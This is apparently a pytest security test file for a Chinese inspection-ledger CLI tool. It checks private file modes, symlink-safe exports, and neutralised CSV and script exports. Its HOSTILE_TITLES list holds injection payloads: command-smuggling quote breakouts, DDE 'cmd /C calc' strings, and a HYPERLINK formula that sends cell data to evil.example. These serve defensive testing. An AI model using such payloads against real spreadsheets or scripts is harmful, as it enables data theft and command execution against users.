"""Security: files the tool creates are private (0600) whatever the umask, and exports
quote every field, so no text can inject a command into a script or a formula into a spreadsheet."""
import csv
import io
import os
import stat
import subprocess

import pexpect

from conftest import binary, sqlite_only

pytestmark = sqlite_only("the modes of the files the store makes")

# Each title tries to break out of its quotes in an exported script or out of its cell in a csv.
HOSTILE_TITLES = [
    '"\nissue withdraw R5-001 x\n#',
    '" --category political # ',
    'a\\" ; issue withdraw R5-001 y',
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "“中文引号” ‘单引号’ 「角括号」『双角括号』",
    'line one\nline two, with a comma, and "quotes"',
    "trailing backslash \\",
    "#not a comment",
    "'single quotes' and \\u{202E}",
]


def q(text):
    """Text written as one double-quoted word of a command line."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\t", "\\t") + '"'


SETUP = """clock 2024-05-10
unit add FY "舞阳县人民法院" --secretary 李四
round open R5 "第五轮专项巡察" --kind special --from 2024-03-01
round target R5 FY
round feedback R5 --on 2024-05-10 --due +90d
issue add R5 FY "执行工作韧劲不足" --category discipline
"""


def env(home):
    return {"HOME": str(home), "LANG": "C.UTF-8", "PATH": "/usr/bin:/bin", "XUNCHA_USER": "测试员"}


def run(home, *args, stdin=None, umask=None):
    def pre():
        if umask is not None:
            os.umask(umask)
    return subprocess.run([binary(), *args], input=stdin, capture_output=True, env=env(home), cwd=home,
                          preexec_fn=pre, timeout=60)


def hostile_store(home):
    store = home / "s.db"
    lines = SETUP + "".join(f"issue add R5 FY {q(t)} --category conduct --requirement {q(t)}\n" for t in HOSTILE_TITLES)
    lines += 'issue assign R5-002 --lead "王\\"五" --owner "赵\\"六" --dept "#执行局"\n'
    lines += 'unit add LH "漯河\\"\\nissue withdraw R5-001 z\\n#" --secretary "周\\\\八"\n'
    r = run(home, "--store", str(store), stdin=lines.encode())
    assert r.returncode == 0, r.stderr.decode()
    return store


def mode(path):
    return stat.S_IMODE(os.stat(path).st_mode)


def test_store_and_exports_are_private_even_under_umask_000(home):
    store = home / "s.db"
    r = run(home, "--store", str(store), stdin=SETUP.encode(), umask=0)
    assert r.returncode == 0, r.stderr
    # A second process keeps the -wal/-shm files around while we look at them.
    r = run(home, "--store", str(store), umask=0,
            stdin=b"export script e.xc\nledger --out l.csv --format csv\nstats --out s.md --format md\n"
                  b"warnings --out w.json --format json\nledger transfers --out t.csv\n")
    assert r.returncode == 0, r.stderr
    for name in ["s.db", "e.xc", "l.csv", "s.md", "w.json", "t.csv"]:
        assert mode(home / name) == 0o600, name
    html = run(home, "--store", str(store), "-c", "report html r.html", umask=0)
    assert html.returncode == 0, html.stderr.decode()
    assert mode(home / "r.html") == 0o600
    assert not [p.name for p in home.iterdir() if ".tmp-" in p.name], "no temporary file left"


def test_the_wal_and_shm_of_an_open_session_are_private_under_umask_000(home):
    store = home / "s.db"
    assert run(home, "--store", str(store), stdin=SETUP.encode(), umask=0).returncode == 0
    # SQLite keeps -wal and -shm while a connection is open: a session at a terminal holds them.
    shell = pexpect.spawn("sh", ["-c", f'umask 000; exec "{binary()}" --store s.db'], env={**env(home), "TERM": "xterm", "NO_COLOR": "1"},
                          cwd=str(home), encoding="utf-8", dimensions=(30, 100), timeout=15)
    try:
        shell.expect(r"xuncha\([^)]*\) \S+[^>]*> ")
        shell.sendline('unit add JX "开着会话时登记"')
        shell.expect("unit JX added")
        shell.expect(r"xuncha\([^)]*\) \S+[^>]*> ")
        for name in ["s.db-wal", "s.db-shm"]:
            assert (home / name).exists(), f"{name} while the session is open"
            assert mode(home / name) == 0o600, name
    finally:
        shell.sendeof()
        shell.expect(pexpect.EOF)
        shell.close()


def test_an_export_never_follows_a_planted_link(home):
    store = home / "s.db"
    assert run(home, "--store", str(store), stdin=SETUP.encode()).returncode == 0
    victim = home / "victim.txt"
    victim.write_text("keep me")
    # Whatever temporary name the writer picks, a link planted at the final name is replaced
    # (rename does not follow it), and the file it pointed at is untouched.
    (home / "out.csv").symlink_to(victim)
    r = run(home, "--store", str(store), "-c", "ledger --format csv --out out.csv --force")
    assert r.returncode == 0, r.stderr
    assert victim.read_text() == "keep me"
    assert not (home / "out.csv").is_symlink()


def test_an_exported_script_rebuilds_the_same_ledger_and_runs_nothing_else(home):
    store = hostile_store(home)
    r = run(home, "--store", str(store), "-c", "export script e.xc", "-c", "audit digest", "-c", "audit log")
    assert r.returncode == 0, r.stderr
    original_digest = r.stdout.decode().splitlines()[1]
    original_events = r.stdout.decode().count("\n") - 2
    script = (home / "e.xc").read_text()
    # One line per event plus the clock/user lines and the two header comments: nothing spilled.
    commands = [line for line in script.splitlines() if line and not line.startswith("#")]
    assert len([c for c in commands if not c.startswith(("clock ", "user "))]) == original_events
    assert not any(line.startswith("issue withdraw") for line in script.splitlines())

    fresh = home / "fresh.db"
    rebuilt = run(home, "--store", str(fresh), "e.xc")
    assert rebuilt.returncode == 0, rebuilt.stderr.decode()
    again = run(home, "--store", str(fresh), "-c", "audit digest", "-c", "expect status R5-001 registered",
                "-c", "expect count --status withdrawn = 0", "-c", "audit log")
    assert again.returncode == 0, again.stderr.decode()
    assert again.stdout.decode().splitlines()[0] == original_digest
    assert again.stdout.decode().count("\n") - 1 == original_events, "the same number of events, no extra command ran"


def test_csv_cells_are_neutralised_and_stay_in_their_cells(home):
    store = hostile_store(home)
    r = run(home, "--store", str(store), "-c", "ledger --format csv --out l.csv", "-c", "ledger leaders --format csv",
            "-c", "ledger units --format csv")
    assert r.returncode == 0, r.stderr
    data = (home / "l.csv").read_bytes()
    assert data.startswith("\ufeff".encode()), "a BOM so that spreadsheets read UTF-8"
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    header = rows[0]
    # The problem rows end at the empty record that separates them from the notes (totals, formula).
    body = rows[1:rows.index([""] * len(header))] if [""] * len(header) in rows else rows[1:]
    assert len(body) == 1 + len(HOSTILE_TITLES), "every row is one record, line breaks stay inside quotes"
    assert all(len(row) == len(header) for row in body)
    title = header.index("problem")
    titles = [row[title] for row in body[1:]]
    for cell in (c for row in rows for c in row):
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only a plain (negative) number may start like a formula
    assert titles[3].startswith("'=HYPERLINK("), titles[3]
    assert titles[4].startswith("'+cmd"), titles[4]
    assert titles[5].startswith("'-2+3"), titles[5]
    assert titles[6].startswith("'@SUM"), titles[6]
    assert titles[7].startswith("'\t=1+1"), titles[7]
    for block in r.stdout.decode("utf-8").split("\ufeff")[1:]:
        for cell in (c for row in csv.reader(io.StringIO(block, newline="")) for c in row):
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)


def test_a_user_name_that_an_export_could_not_replay_is_refused_at_start(home):
    for name in ["a\nissue withdraw R5-001 x", "a\u200bb", " 孙七", "\u202e孙七"]:
        r = run(home, "--memory", "--user", name, "-c", "ledger")
        assert r.returncode == 2, name
        assert r.stderr.decode().startswith("xuncha: user "), r.stderr
        assert r.stderr.decode().count("\n") == 1, "the name is not echoed with its line break"
